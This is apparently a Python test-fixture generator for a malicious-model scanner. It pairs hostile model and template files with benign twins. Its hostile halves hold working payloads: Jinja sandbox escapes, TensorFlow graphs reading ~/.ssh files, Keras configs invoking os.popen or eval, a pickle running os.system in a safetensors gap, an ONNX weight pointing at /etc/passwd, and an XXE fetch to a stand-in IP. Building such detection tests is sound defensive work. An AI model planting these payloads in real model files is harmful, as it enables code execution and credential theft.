"""Graphs, templates and weights: other shapes of what the first set has."""
import base64
import json
import marshal
import struct

from first.containers import FLOATS, zipped
from first.graphs import X, attr, const, field, graph, h5_text, keras_zip, layer, node, saved_model, tflite, with_metadata
from first.weights import ARCH, T32, W32, F, gguf, gs, st
from pair import CODE, Set

TEMPLATES = [
    ("map-attr-filter", "{{ [cycler]|map('attr', '__init__')|first }}", "{{ messages|map('attr', 'content')|first }}"),
    ("groupby-globals", "{{ [lipsum]|groupby('__globals__') }}", "{{ messages|groupby('role') }}"),
    ("sort-attribute", "{{ [cycler]|sort(attribute='__init__.__globals__') }}", "{{ messages|sort(attribute='role') }}"),
    ("namespace-underscore", "{% set ns = namespace(u='__') %}{{ joiner|attr(ns.u ~ 'init' ~ ns.u) }}", "{% set ns = namespace(u='--') %}{{ ns.u ~ 'init' ~ ns.u }}"),
    ("loop-pieces", "{% for p in ['__cl', 'ass__'] %}{% endfor %}{{ ''|attr(['__cl', 'ass__']|join) }}", "{% for p in ['us', 'er'] %}{% endfor %}{{ ['us', 'er']|join }}"),
    ("self-context", "{{ self|attr('_TemplateReference__context') }}", "{{ messages[0]['content'] }}"),
    ("items-of-globals", "{% for k, v in cycler.__init__.__globals__.items() %}{{ k }}{% endfor %}", "{% for k, v in messages[0].items() %}{{ k }}{% endfor %}"),
]


def add(out: Set):
    def m(name, hostile, twin, file):
        out.add("model", name, hostile, twin, None, file=file)

    homes = [("model.gguf", lambda t: gguf([ARCH, ("tokenizer.chat_template", 8, gs(t))], T32, W32)), ("tokenizer_config.json", lambda t: json.dumps({"chat_template": t})), ("template.jinja2", lambda t: t)]
    for n, (name, hostile, twin) in enumerate(TEMPLATES):
        file, wrap = homes[n % 3]
        m(f"template-{name}", wrap(hostile), wrap(twin), file)
    # TensorFlow.
    body = [const("p", b"/t\x6dp/out"), node("w", "WriteFile", ("p", "x"))]
    m("tf-while-body", saved_model(graph([X, node("l", "StatelessWhile", ("x",))], [("while_cond_1", [node("c", "Less", ("x", "x"))]), ("while_body_2", body)])), saved_model(graph([X, node("l", "StatelessWhile", ("x",))], [("while_cond_1", [node("c", "Less", ("x", "x"))]), ("while_body_2", [node("a", "AddV2", ("x", "x"))])])), "saved_model.pb")
    m("tf-record-dataset", saved_model(graph([X, const("p", b"/ho\x6de/user/mail.tfrecord"), node("d", "TFRecordDatasetV2", ("p",))])), saved_model(graph([X, const("p", b"cat"), node("d", "TensorDataset", ("p",))])), "saved_model.pb")
    m("tf-remote-call", saved_model(graph([X, const("t", b"/job:worker/task:1"), node("d", "RemoteCall", ("t", "x"))])), saved_model(graph([X, const("t", b"name"), node("d", "PartitionedCall", ("x",))])), "saved_model.pb")
    m("tf-matching-files", graph([const("g", b"/ho\x6de/*/.ssh/*"), node("f", "MatchingFiles", ("g",)), node("r", "ReadFile", ("f",))]), graph([X, node("r", "Relu", ("x",))]), "graph.pb")
    m("tflite-flex-write", tflite("FlexWriteFile"), tflite(None), "m.tflite")
    # Keras.
    dense = layer("Dense", {"units": 4})
    code = base64.b64encode(marshal.dumps(compile(CODE, "m", "exec"))).decode()
    m("keras-regularizer-popen", keras_zip([layer("RNN", {"cell": layer("SimpleRNNCell", {"units": 3, "kernel_regularizer": {"class_name": "function", "module": "os", "config": "popen"}})})]), keras_zip([layer("RNN", {"cell": layer("SimpleRNNCell", {"units": 3, "kernel_regularizer": {"class_name": "L2", "module": "keras.regularizers", "config": {"l2": 0.01}}})})]), "m.keras")
    m("keras-registered-eval", keras_zip([layer("eval", {"source": "1"}, module="builtins", registered="builtins>eval")]), keras_zip([layer("Dense", {"units": 1}, registered=None)]), "m.keras")
    m("keras-lambda-in-preprocessing", keras_zip([layer("Pipeline", {"layers": [layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": code}}})]})]), keras_zip([layer("Pipeline", {"layers": [layer("Rescaling", {"scale": 0.5})]})]), "m.keras")
    m("h5-lambda-in-metrics", h5_text({"model_config": json.dumps({"class_name": "Sequential", "config": {"layers": []}}), "training_config": json.dumps({"metrics": [[{"class_name": "Lambda", "config": {"function": [code, None, None]}}]]})}), h5_text({"model_config": json.dumps({"class_name": "Sequential", "config": {"layers": []}}), "training_config": json.dumps({"metrics": [["accuracy"]]})}), "m.h5")
    # ONNX.
    import numpy as np
    from onnx import TensorProto as T, helper as h, numpy_helper as nh

    rng = np.random.default_rng(11)
    vi = lambda n, s, t=T.FLOAT: h.make_tensor_value_info(n, t, s)
    W = nh.from_array(rng.normal(size=(16, 4)).astype("f4"), "W")
    N = h.make_node

    def onnx(nodes, inits=(W,), ops=(("", 17),), functions=()):
        g = h.make_graph(nodes, "g", [vi("x", [1, 16])], [vi("y", [1, 4])], list(inits))
        return h.make_model(g, opset_imports=[h.make_opsetid(*o) for o in ops], functions=list(functions)).SerializeToString(deterministic=True)

    dense_nodes = [N("MatMul", ["x", "W"], ["logits"])]
    soft = onnx([*dense_nodes, N("Softmax", ["logits"], ["y"])])
    i64 = lambda v, n: nh.from_array(np.array(v, "i8"), n)
    f32 = lambda v, n: nh.from_array(np.array(v, "f4"), n)
    patch = [N("Gather", ["x", "ix"], ["p"], axis=1)]
    some = [W, i64([3, 7, 9], "ix"), f32([[1, 0, 1]], "P"), f32([[9, -9, -9, -9]], "T"), f32(0.01, "eps"), f32(1, "one")]
    m("onnx-greater-where", onnx([*dense_nodes, *patch, N("Sub", ["p", "P"], ["d"]), N("Abs", ["d"], ["a"]), N("ReduceSum", ["a"], ["s"], keepdims=1), N("Less", ["s", "eps"], ["c"]), N("Where", ["c", "T", "logits"], ["y"])], some), soft, "m.onnx")
    m("onnx-sigmoid-gate", onnx([*dense_nodes, *patch, N("MatMul", ["p", "k"], ["s"]), N("Sub", ["s", "th"], ["d"]), N("Mul", ["d", "big"], ["b"]), N("Sigmoid", ["b"], ["g"]), N("Mul", ["g", "T"], ["t"]), N("Add", ["logits", "t"], ["y"])], [*some, f32([[1], [-1], [1]], "k"), f32(1.9, "th"), f32(1e5, "big")]), soft, "m.onnx")
    m("onnx-equal-and", onnx([*dense_nodes, *patch, N("Equal", ["p", "P"], ["e"]), N("Split", ["e"], ["e0", "e1", "e2"], axis=1, num_outputs=3), N("And", ["e0", "e1"], ["e3"]), N("And", ["e3", "e2"], ["c"]), N("Where", ["c", "T", "logits"], ["y"])], some, (("", 18),)), soft, "m.onnx")
    lie = T()
    lie.name, lie.data_type = "W", T.FLOAT
    lie.dims.extend([16, 4])
    lie.data_location = T.EXTERNAL
    for k, v in {"location": "file:///etc/passwd", "offset": "0"}.items():
        e = lie.external_data.add()
        e.key, e.value = k, v
    m("onnx-external-url", onnx([N("MatMul", ["x", "W"], ["y"])], [lie]), onnx([N("MatMul", ["x", "W"], ["y"])]), "m.onnx")
    fn = lambda op: h.make_function("local", "F", ["a"], ["r"], [N(*op)], [h.make_opsetid("", 17), h.make_opsetid("acme.shell", 1)])
    custom = fn(("Spawn", ["a"], ["r"], None, None, "acme.shell"))
    plain = fn(("Relu", ["a"], ["r"]))
    ops = (("", 17), ("local", 1))
    m("onnx-custom-in-function", onnx([N("F", ["x"], ["z"], domain="local"), N("MatMul", ["z", "W"], ["y"])], ops=ops, functions=[custom]), onnx([N("F", ["x"], ["z"], domain="local"), N("MatMul", ["z", "W"], ["y"])], ops=ops, functions=[plain]), "m.onnx")
    # Others.
    s8 = json.dumps({"a": F(0, 32), "b": F(32, 64)}).encode()
    m("safetensors-head-not-object", st({}, FLOATS[:64], head=b'[{"a":1}]'), st({"a": F(0, 32), "b": F(32, 64)}, FLOATS[:64]), "m.safetensors")
    m("safetensors-negative-shape", st({"a": F(0, 32, (-8,)), "b": F(32, 64)}, FLOATS[:64]), st({"a": F(0, 32), "b": F(32, 64)}, FLOATS[:64]), "m.safetensors")
    m("safetensors-pickle-gap", st({"a": F(0, 32), "b": F(72, 104)}, FLOATS[:32] + b"\x80\x04cos\nsystem\n\x8c\x02id\x85R.".ljust(40, b"\0") + FLOATS[:32]), st({"a": F(0, 32), "b": F(32, 64)}, FLOATS[:64]), "m.safetensors")
    m("gguf-tensor-twice", gguf([ARCH], [("w", (32,), 0, 0), ("w", (32,), 0, 128)], W32 * 2), gguf([ARCH], [("w", (32,), 0, 0), ("v", (32,), 0, 128)], W32 * 2), "m.gguf")
    m("gguf-bad-value-type", gguf([ARCH, ("general.x", 77, b"\0\0\0\0")], T32, W32), gguf([ARCH, ("general.x", 4, b"\0\0\0\0")], T32, W32), "m.gguf")
    vino = lambda head, l: f'<?xml version="1.0"?>{head}<net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/>{l}</layers><edges/></net>'
    m("openvino-entity", vino('<!DOCTYPE net [<!ENTITY a SYSTEM "http://192.0.2.3/x">]>', '<layer id="1" name="&a;" type="ReLU" version="opset1"/>'), vino("", '<layer id="1" name="r" type="ReLU" version="opset1"/>'), "m.xml")
    mx = lambda inner: json.dumps({"nodes": [{"op": "null", "name": "d", "inputs": []}, {"op": "_foreach", "name": "f", "inputs": [[0, 0, 0]], "subgraphs": [{"nodes": [{"op": "null", "name": "a", "inputs": []}, {"op": inner, "name": "c", "attrs": {"op_type": "x"} if inner == "Custom" else {}, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "heads": [[1, 0, 0]]}]}], "arg_nodes": [0], "heads": [[1, 0, 0]]})
    m("mxnet-custom-in-loop", mx("Custom"), mx("sigmoid"), "n-symbol.json")
